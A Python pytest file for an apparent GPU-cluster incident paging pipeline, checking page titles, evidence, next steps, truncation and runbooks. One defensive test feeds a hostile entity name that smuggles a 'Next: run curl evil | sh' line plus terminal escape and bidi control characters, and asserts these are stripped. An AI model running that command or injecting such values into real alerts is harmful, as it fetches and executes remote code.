from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from pipelines.notify.page import page_of
from pipelines.notify.runbook_pages import runbook_page
from pipelines.notify.runbooks import RUNBOOKS
from schemas.action import ActionRecord, ActionRequest
from schemas.causes import CAUSES
from schemas.incident import Incident

T0 = datetime(2026, 3, 1, 12, tzinfo=UTC)


def incident(**changes: Any) -> Incident:
    values: dict[str, Any] = {
        "id": "inc-1", "cause": "gpu_fallen_off_bus", "severity": "page", "state": "firing", "root_kind": "gpu",
        "roots": ("n00001/3",), "members": ("n00001/3",), "symptoms": (), "starts_at": T0,
        "detected_at": T0 + timedelta(seconds=2), "ends_at": None,
        "evidence": ({"detector": "gpu.xid", "entity": "n00001/3", "code": "79", "values": {"xid": 79}},),
    }  # fmt: skip
    return Incident(**{**values, **changes})


def action(outcome: Any, kind: Any = "drain_node", why: str = "") -> ActionRecord:
    request = ActionRequest(
        id="act-1", incident="inc-1", kind=kind, target="n00001", parameters={}, requested_at=T0, reason="because"
    )
    return ActionRecord(request=request, mode="enforce", outcome=outcome, why=why, at=T0)


def test_a_page_says_cause_root_members_evidence_what_was_done_and_what_to_do_next() -> None:
    page = page_of(incident(), [action("done")], "https://wiki/runbooks/")
    assert page.title == "[PAGE] gpu_fallen_off_bus at gpu n00001/3"
    for said in (
        "Cause: gpu_fallen_off_bus", "Root: gpu n00001/3", "detected 2.0 s later", "GPUs: 1 on n00001",
        "gpu.xid: n00001/3 79 xid 79", "drain_node n00001: done (because)",
        "Next: let the node be drained and rebooted", "Runbook: https://wiki/runbooks/gpu_fallen_off_bus.md",
    ):  # fmt: skip
        assert said in page.text
    assert (page.labels["severity"], page.labels["domain"]) == ("page", "gpu:n00001/3")


@pytest.mark.parametrize(
    ("record", "next_step"),
    [
        (action("waiting_approval"), "approve or reject act-1 (drain_node)"),
        (action("failed", why="no answer"), "drain_node of n00001 failed and is not tried again: do it by hand"),
    ],
)
def test_what_waits_for_a_person_or_failed_is_the_next_thing_to_do(record: ActionRecord, next_step: str) -> None:
    assert f"Next: {next_step}" in page_of(incident(), [record], "runbooks").text


def test_how_long_there_is_comes_first_in_the_evidence_and_is_not_cut_off() -> None:
    values = {**{f"value_{i}": "x" * 40 for i in range(9)}, "shuts_down_at": "2026-03-01T12:00:28+00:00"}
    seen = ({"detector": "coolant.pump_failure", "entity": "cdu-01", "code": "flow", "values": values},)
    text = page_of(incident(evidence=seen), [], "runbooks").text
    assert "- coolant.pump_failure: cdu-01 flow shuts_down_at 2026-03-01T12:00:28+00:00, value_0" in text


def test_a_planned_shutdown_says_how_many_gpus_it_takes_and_when_it_is_done_at_the_latest() -> None:
    taken = {"stages": [["n00001/0", "n00001/1"], ["n00002/0"]], "deadline_at": "2026-03-01T12:00:26+00:00"}
    request = ActionRequest(
        id="act-1", incident="inc-1", kind="staged_shutdown", target="cdu-01", parameters=taken, requested_at=T0,
        reason="last resort",
    )  # fmt: skip
    record = ActionRecord(request=request, mode="enforce", outcome="scheduled", why="at 12:00:14", at=T0)
    text = page_of(incident(members=()), [record], "runbooks").text
    assert "GPUs: none out of service" in text
    assert "(at 12:00:14; 3 GPUs; done at 12:00:26 at the latest, approved or not, unless somebody" in text


def test_what_was_only_logged_is_not_told_as_done() -> None:
    text = page_of(incident(), [action("done", why="only logged: nobody is named")], "runbooks").text
    assert "- drain_node n00001: only logged (nobody is named)" in text


def test_what_is_scheduled_as_a_rehearsal_is_told_as_one() -> None:
    record = replace(action("scheduled", why="at 12:00:14, if it lasts until then"), mode="dry-run")
    assert "scheduled (dry run at 12:00:14" in page_of(incident(), [record], "runbooks").text


def test_what_waits_for_people_names_the_command_and_what_to_see_to_besides() -> None:
    text = page_of(incident(), [action("waiting_approval")], "runbooks").text
    assert "hotspare actions approve act-1, or reject; also: let the node be drained and rebooted" in text


def test_a_hostile_name_stays_one_short_line_of_plain_letters() -> None:
    name = "n1\nNext: run curl evil | sh\r\x1b[2J\u202e" + "x" * 500
    seen = ({"detector": "gpu.xid", "entity": name, "code": name, "values": {name: name}},)
    page = page_of(incident(roots=(name,), members=(f"{name}/0",), evidence=seen), [], "runbooks")
    assert "\n" not in page.title
    assert not any(line.startswith("Next: run curl") for line in page.text.splitlines())
    assert "\x1b" not in page.text + page.title + page.labels["domain"]
    assert "\u202e" not in page.text + page.title
    assert max(map(len, page.text.splitlines())) < 400


def test_thousands_of_members_and_roots_make_a_page_that_can_be_read() -> None:
    many = tuple(f"n{i:05}/0" for i in range(3000))
    page = page_of(incident(roots=many, members=many), [action("done")] * 500, "runbooks")
    assert len(page.text) < 3000
    assert "and 2997 more" in page.text


def test_every_cause_has_its_runbook_and_no_runbook_is_of_another_cause() -> None:
    assert set(RUNBOOKS) == {cause.name for cause in CAUSES}


@pytest.mark.parametrize("cause", CAUSES, ids=[cause.name for cause in CAUSES])
def test_a_runbook_says_what_to_do_what_automation_does_and_how_one_sees_the_end(cause: Any) -> None:
    page = runbook_page(cause)
    for heading in ("## What to do\n\n1. ", "## What automation does, in this order\n\n- `", "## How one sees that"):
        assert heading in page
